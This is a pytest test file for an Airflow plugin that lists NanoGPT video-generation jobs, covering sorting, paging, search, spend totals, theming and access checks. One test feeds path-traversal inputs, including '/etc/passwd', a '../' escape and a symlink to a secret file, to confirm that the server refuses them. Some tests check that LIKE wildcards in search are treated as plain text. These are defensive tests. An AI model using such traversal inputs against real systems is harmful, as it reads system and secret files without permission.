def test_an_edited_card_does_not_widen_what_is_read(
    world: World, run: str, conn_id: str, path: str
) -> None:
    """The connection and path come from the task's rendered fields, not from the card."""
    secret = world.workdir.parent / f"secret-{world.workdir.name}.mp4"
    secret.write_bytes(b"never served " * 100)
    (world.workdir / "kept.mp4").write_bytes(b"never served either " * 100)
    location = path.format(workdir=world.workdir, secret=secret)
    gone = f"{world.sim.url}/expired.mp4"
    with _card_changed(world.runs[run], conn_id=conn_id, output_path=location, video_url=gone):
        answer = world.server.get("/nanogpt/video", "admin", **world.ti(run))
    assert b"never served" not in answer.content
    if run == "completed":  # its own saved copy, from under its own connection's base dir
        assert answer.status_code == 200
        assert answer.content == (world.workdir / "sea.mp4").read_bytes()
    else:
        assert answer.status_code == 502


@contextmanager
def _rendered_fields_pruned(outcome: DagOutcome) -> Iterator[None]:
    """The task's rendered template fields gone, as Airflow prunes them for old runs."""
    from airflow.models.renderedtifields import RenderedTaskInstanceFields as Rtif
    from airflow.utils.session import create_session
    from sqlalchemy import delete, select

    where = (Rtif.dag_id == outcome.dag_id, Rtif.run_id == outcome.run_id)
    with create_session() as session:
        kept = [
            {c: getattr(row, c) for c in ("dag_id", "task_id", "run_id", "map_index")}
            | {"rendered_fields": row.rendered_fields, "k8s_pod_yaml": row.k8s_pod_yaml}
            for row in session.scalars(select(Rtif).where(*where))
        ]
        assert kept, "dag.test() recorded no rendered fields"
        session.execute(delete(Rtif).where(*where))
    try:
        yield
    finally:
        from sqlalchemy import insert

        with create_session() as session:
            session.execute(insert(Rtif), kept)


def test_without_the_tasks_rendered_fields_only_a_public_url_is_fetched(world: World) -> None:
    """No trusted record of the task's connection: no saved file, and the URL only if public
    (the simulator's URL is on loopback, trusted only as a connection's own host)."""
    with _rendered_fields_pruned(world.runs["completed"]):
        answer = world.server.get("/nanogpt/video", "admin", **world.ti("completed"))
        assert answer.status_code == 502
        assert "VideoRefused" in answer.json()["detail"]
    assert world.server.get("/nanogpt/video", "admin", **world.ti("completed")).status_code == 200


@pytest.mark.parametrize("outside", ["/etc/passwd", "{workdir}/../{name}", "{workdir}/escape"])
def test_a_saved_path_outside_the_base_dir_streams_the_url_instead(
    world: World, outside: str
) -> None:
    secret = world.workdir.parent / f"secret-{world.workdir.name}.mp4"
    secret.write_bytes(b"never served")
    escape = world.workdir / "escape"
    if not escape.is_symlink():
        escape.symlink_to(secret)
    location = outside.format(workdir=world.workdir, name=secret.name)
    url_video = world.server.get("/nanogpt/video", "viewer", **world.ti("completed")).content
    with _card_changed(world.runs["completed"], output_path=location):
        answer = world.server.get("/nanogpt/video", "viewer", **world.ti("completed"))
    assert answer.status_code == 200 and answer.content == url_video
    assert b"never served" not in answer.content and b"root:" not in answer.content


def test_submission_time_drives_the_order_the_date_filter_and_the_spend(world: World) -> None:
    """A job's card is rewritten when the job ends; the page goes by when it was submitted."""
    from datetime import UTC, datetime

    # Submitted a second before midnight (UTC) on 2001-01-01, its card written today.
    late_evening = datetime(2001, 1, 1, 23, 59, 59, tzinfo=UTC).timestamp()
    far_future = datetime(2099, 6, 1, tzinfo=UTC).timestamp()
    completed, failed = world.runs["completed"], world.runs["failed"]
    with (
        _card_changed(completed, submitted_at=late_evening),
        _card_changed(failed, submitted_at=far_future),
    ):
        order = [row["dag_run_id"] for row in world.job_rows("admin")]
        assert order[0] == failed.run_id and order[-1] == completed.run_id
        that_day = {"since": "2001-01-01", "until": "2001-01-01"}
        assert [r["dag_run_id"] for r in world.job_rows("admin", **that_day)] == [completed.run_id]
        assert world.job_rows("admin", since="2001-01-02", until="2001-01-02") == []
        spend = world.server.get("/nanogpt/api/spend", "admin", **that_day).json()
        assert spend["jobs"] == 1 and list(spend["by_day"]) == ["2001-01-01"]
        page = world.server.get("/nanogpt/ui/jobs", "admin", **that_day).text
        assert f'data-run-id="{_row_run_id(world, "completed")}"' in page
        assert "2001-01-01 23:59:59 UTC" in page


@pytest.mark.parametrize(
    ("name", "reason"),
    [("blocked", "blocked due to safety concerns"), ("rejected", "needs a number")],
)
def test_a_refused_submission_is_listed_and_has_a_video_tab(
    world: World, name: str, reason: str
) -> None:
    (row,) = _rows_of(world, "admin", name)
    assert (row["state"], row["run_id"], row["charged"], row["refunded"]) == (name, None, 0, False)
    assert reason in row["error"] and row["video_link"] is None
    assert [r["dag_run_id"] for r in _rows_of(world, "admin", name, state=name)] == [
        world.runs[name].run_id
    ]
    page = world.server.get("/nanogpt/ui/jobs", "admin", state=name).text
    assert f'data-state="{name}"' in page and reason in page
    tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti(name)).text
    assert "not a NanoGPT task" not in tab and reason in tab
    assert f'data-state="{name}"' in tab
    # Nothing was charged: the DAG's spend is its one job NanoGPT did not refund.
    spend = world.server.get("/nanogpt/api/spend", "admin", dag_id=world.runs[name].dag_id).json()
    assert spend["jobs"] == 1


@contextmanager
def _charge_record(outcome: DagOutcome, key: str, record: dict[str, Any]) -> Iterator[None]:
    """A row in the task's state store (Airflow 3.3+), removed afterwards."""
    from airflow.models.dagrun import DagRun
    from airflow.models.task_state_store import TaskStateStoreModel as Store
    from airflow.utils.session import create_session
    from sqlalchemy import delete, select

    with create_session() as session:
        run = session.scalars(
            select(DagRun).where(DagRun.dag_id == outcome.dag_id, DagRun.run_id == outcome.run_id)
        ).one()
        session.add(
            Store(
                dag_run_id=run.id,
                task_id="generate",
                map_index=-1,
                key=key,
                dag_id=outcome.dag_id,
                run_id=outcome.run_id,
                value=json.dumps(record),
            )
        )
    try:
        yield
    finally:
        with create_session() as session:
            session.execute(delete(Store).where(Store.key == key))


@pytest.mark.skipif(not HAS_STATE_STORE, reason="the task state store is Airflow 3.3+")
def test_only_charge_records_are_read_as_charges(world: World) -> None:
    """ "_" in the key prefix is a LIKE wildcard: "nanogptXcharge:" is not a charge record."""
    record = {"run_id": "vid_not_a_charge", "refunded": True, "cost": 9.0, "currency": "USD"}
    record["submitted_at"] = 1_800_000_000
    with _charge_record(world.runs["completed"], "nanogptXcharge:vid_not_a_charge", record):
        rows = world.job_rows("admin", dag_id=world.runs["completed"].dag_id)
    assert "vid_not_a_charge" not in {row["run_id"] for row in rows}


def test_paging_order_is_total(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Jobs of one task submitted in the same instant: one order (by run), on every page."""
    from airflow.utils.session import create_session

    from airflow_provider_nanogpt.plugin import jobs as job_store

    tied = (world.runs["completed"], world.runs["failed"])  # one DAG, one task
    dag_id = tied[0].dag_id
    same_moment = 1_800_000_000
    with (
        _card_changed(tied[0], submitted_at=same_moment),
        _card_changed(tied[1], submitted_at=same_moment),
        create_session() as session,
    ):
        whole = job_store.list_jobs(session, {dag_id}, job_store.Filters())
        monkeypatch.setattr(job_store, "PAGE_SIZE", 1)
        paged = [
            job
            for n in range(1, whole.total + 1)
            for job in job_store.list_jobs(session, {dag_id}, job_store.Filters(page=n)).jobs
        ]
    order = [job.dag_run_id for job in whole.jobs]
    assert order == sorted(order) == [job.dag_run_id for job in paged]


def test_a_card_with_a_cost_that_is_not_a_number_is_shown_as_unknown(world: World) -> None:
    with _card_changed(world.runs["completed"], cost="lots"):
        page = world.server.get("/nanogpt/ui/jobs", "admin")
        video = world.server.get("/nanogpt/ui/video", "admin", **world.ti("completed"))
        row = world.server.get("/nanogpt/api/job", "admin", **world.ti("completed")).json()
    assert page.status_code == 200 and "a calm sea at dawn" in page.text
    assert video.status_code == 200 and "not known yet" in video.text
    assert (row["cost"], row["charged"]) == (None, None)


SENSORS = ("wait_deferred", "wait_poke")


def test_a_sensors_video_tab_shows_prompt_submission_time_and_cost_with_currency(
    world: World,
) -> None:
    """The sensor only watched: prompt, submission time and currency are the submitter's."""
    submitter = world.server.get("/nanogpt/api/job", "viewer", **world.ti("split", "submit"))
    submitted = submitter.json()
    (job,) = [j for j in world.sim.state()["jobs"] if j["runId"] == submitted["run_id"]]
    for sensor in SENSORS:
        row = world.server.get("/nanogpt/api/job", "viewer", **world.ti("split", sensor)).json()
        assert row["state"] == "completed" and row["run_id"] == submitted["run_id"]
        assert row["prompt"] == "one submit, two sensors"
        assert row["submitted_at"] == submitted["submitted_at"] is not None
        assert (row["cost"], row["currency"]) == (pytest.approx(job["cost"]), "USD")
        tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("split", sensor)).text
        assert '<dd id="prompt">one submit, two sensors</dd>' in tab
        assert f'<dd id="submitted">{submitted["submitted_at"]}' in tab
        assert f'{job["cost"]:.4f} <span id="currency">USD</span>' in tab


def test_a_cost_without_a_currency_says_so(world: World) -> None:
    with _card_changed(world.runs["completed"], currency=None):
        tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("completed")).text
        page = world.server.get("/nanogpt/ui/jobs", "viewer", dag_id="nanogpt_deferrable").text
    assert '<span id="currency">(currency unknown)</span>' in tab
    assert "(currency unknown)" in page


@contextmanager
def _sensors_still_waiting(outcome: DagOutcome) -> Iterator[None]:
    """The split run's sensors as they are while they wait: deferred, with a waiting card."""
    from airflow.models.taskinstance import TaskInstance
    from airflow.models.xcom import XComModel
    from airflow.utils.session import create_session
    from sqlalchemy import select

    from airflow_provider_nanogpt.job_card import WATCH_KEY, watch_card

    def rows(session: Any, table: Any, *where: Any) -> Any:
        return session.scalars(
            select(table).where(
                table.dag_id == outcome.dag_id,
                table.run_id == outcome.run_id,
                table.task_id.in_(SENSORS),
                *where,
            )
        ).all()

    kept: dict[str, tuple[Any, Any]] = {}
    with create_session() as session:
        for ti in rows(session, TaskInstance):
            kept[ti.task_id] = (ti.state, None)
            ti.state = "deferred"
        for xcom in rows(session, XComModel, XComModel.key == WATCH_KEY):
            kept[xcom.task_id] = (kept[xcom.task_id][0], xcom.value)
            card = xcom.value if isinstance(xcom.value, dict) else json.loads(xcom.value)
            xcom.value = watch_card(run_id=card["run_id"], conn_id=card["conn_id"])
    try:
        yield
    finally:
        with create_session() as session:
            for ti in rows(session, TaskInstance):
                ti.state = kept[ti.task_id][0]
            for xcom in rows(session, XComModel, XComModel.key == WATCH_KEY):
                xcom.value = kept[xcom.task_id][1]


@contextmanager
def _status_shape(world: World, shape: str) -> Iterator[None]:
    before = world.sim.configure()["status_shape"]
    world.sim.configure(status_shape=shape)
    try:
        yield
    finally:
        world.sim.configure(status_shape=before)


def test_while_a_sensor_waits_its_run_is_rendering_with_progress(world: World) -> None:
    outcome = world.runs["split"]
    # The run itself is over at NanoGPT: the flat status answer still gives its progress (100).
    with _sensors_still_waiting(outcome), _status_shape(world, "flat"):
        (row,) = world.job_rows("viewer", dag_id=outcome.dag_id)
        assert row["task_id"] == "submit" and row["state"] == "rendering"
        assert row["progress"] is not None  # live, from NanoGPT
        # The state filter agrees with what the rows say.
        assert [r["run_id"] for r in world.job_rows("viewer", state="rendering")].count(
            row["run_id"]
        ) == 1
        submitted = world.job_rows("viewer", state="submitted")
        assert row["run_id"] not in {r["run_id"] for r in submitted}
        # The sensor's own Video tab: rendering, with progress on its first render.
        tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("split", "wait_deferred"))
        assert tab.status_code == 200
        assert 'data-state="rendering"' in tab.text and "% done" in tab.text
        assert '<dd id="prompt">one submit, two sensors</dd>' in tab.text
        # The submitter's tab says the same.
        submit_tab = world.server.get("/nanogpt/ui/video", "viewer", **world.ti("split", "submit"))
        assert 'data-state="rendering"' in submit_tab.text and "% done" in submit_tab.text
    (row,) = world.job_rows("viewer", dag_id=outcome.dag_id)
    assert row["state"] == "completed"


def _sort_value(row: dict[str, Any], column: str) -> Any:
    """A row's value in the column the page sorts by (unknown numbers are -1, names empty)."""
    return {
        "submitted": row["submitted_at"] or "",
        "took": -1 if row["duration_seconds"] is None else row["duration_seconds"],
        "cost": -1 if row["cost"] is None else row["cost"],
        "task": row["dag_id"],
        "model": row["model"] or "",
        "state": row["state"],
    }[column]


@pytest.mark.parametrize("column", ["submitted", "took", "cost", "task", "model", "state"])
@pytest.mark.parametrize("descending", [True, False])
def test_the_list_sorts_by_each_column_both_ways(
    world: World, column: str, descending: bool
) -> None:
    order_by = ("-" if descending else "") + column
    rows = world.job_rows("admin", order_by=order_by)
    assert len(rows) == len(world.job_rows("admin")) > 5
    values = [_sort_value(row, column) for row in rows]
    assert values == sorted(values, reverse=descending)
    if column != "model":  # every world job uses one model
        assert len(set(map(str, values))) > 1  # not a column where every row ties


def test_sorting_pages_every_job_once(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    """Sorted and paged in the database, refunded card-less jobs (3.3) included."""
    from airflow.utils.session import create_session

    from airflow_provider_nanogpt.plugin import jobs as job_store

    dags = {outcome.dag_id for outcome in world.runs.values()}
    with create_session() as session:
        whole = job_store.list_jobs(session, dags, job_store.Filters(order_by="cost"))
        monkeypatch.setattr(job_store, "PAGE_SIZE", 1)
        paged = [
            job
            for n in range(1, whole.total + 1)
            for job in job_store.list_jobs(
                session, dags, job_store.Filters(order_by="cost", page=n)
            ).jobs
        ]
    costs = [job.card.get("cost") for job in whole.jobs]
    assert [c if isinstance(c, int | float) else -1 for c in costs] == sorted(
        c if isinstance(c, int | float) else -1 for c in costs
    )
    assert [(j.run_id, j.state) for j in paged] == [(j.run_id, j.state) for j in whole.jobs]


def test_the_page_links_its_column_headers_to_the_sorts(world: World) -> None:
    from html import unescape
    from urllib.parse import parse_qs, urlsplit

    page = world.server.get("/nanogpt/ui/jobs", "viewer", q="sea", order_by="cost").text
    links = {
        column: parse_qs(urlsplit(unescape(href)).query)
        for column, href in re.findall(
            r'data-sort="(\w+)"[^>]*><a class="sort" href="([^"]+)"', page
        )
    }
    assert set(links) == {"submitted", "took", "cost", "task", "model", "state"}
    assert links["cost"]["order_by"] == ["-cost"]  # the current column: the other way
    assert links["submitted"]["order_by"] == ["-submitted"] and links["task"]["order_by"] == [
        "task"
    ]
    assert all(link["q"] == ["sea"] and "page" not in link for link in links.values())
    assert 'aria-sort="ascending"' in page


@pytest.mark.parametrize(
    ("user", "search", "found"),
    [
        ("admin", "CALM Sea", ["completed"]),
        ("viewer", "a calm", ["completed"]),
        ("admin", "secret launch", ["secret"]),
        ("viewer", "the SECRET", ["secret"]),
        # A DAG the user may not read: its prompts are never found.
        ("limited", "secret launch", []),
        ("limited", "secret", []),
        # LIKE's wildcards are plain characters.
        ("admin", "%", []),
        ("admin", "a_calm", []),
    ],
)
def test_the_prompt_search(world: World, user: str, search: str, found: list[str]) -> None:
    rows = world.job_rows(user, q=search)
    expected = {(world.runs[n].dag_id, world.runs[n].run_id) for n in found}
    assert {(row["dag_id"], row["dag_run_id"]) for row in rows} == expected
    page = world.server.get("/nanogpt/ui/jobs", user, q=search).text
    assert ("the secret launch" in page) is ("secret" in found)


@pytest.mark.skipif(not HAS_STATE_STORE, reason="the task state store is Airflow 3.3+")
def test_the_prompt_search_finds_a_refunded_job_without_a_card(world: World) -> None:
    rows = _rows_of(world, "admin", "retried", q="SECOND chance")
    assert {row["state"] for row in rows} == {"completed", "failed"}
    assert _rows_of(world, "admin", "retried", q="third chance") == []


def test_the_pages_follow_airflows_theme(world: World) -> None:
    """Airflow's font and colour tokens; dark ones bound to data-theme="dark", which the page's
    script sets from the Airflow UI's choice (its <html> class, localStorage "theme")."""
    for path, params in (("/nanogpt/ui/jobs", {}), ("/nanogpt/ui/video", world.ti("completed"))):
        page = world.server.get(path, "viewer", **params).text
        css = page[page.index("<style>") : page.index("</style>")]
        assert "--font-body: Inter, -apple-system" in css and "var(--font-body)" in css
        dark = css[css.index(':root[data-theme="dark"] {') :]
        dark = dark[: dark.index("}")]
        assert "--bg: oklch(0.23185 0.0323 266.44)" in dark  # Airflow's "black"
        assert "--fg: oklch(0.985 0.004 253)" in dark and "color-scheme: dark" in dark
        script = page[page.index("<script>") : page.index("</script>")]
        assert 'localStorage.getItem("theme")' in script
        assert "classList;" in script and 'contains("dark")' in script
        assert "prefers-color-scheme: dark" in script and "root.dataset.theme" in script
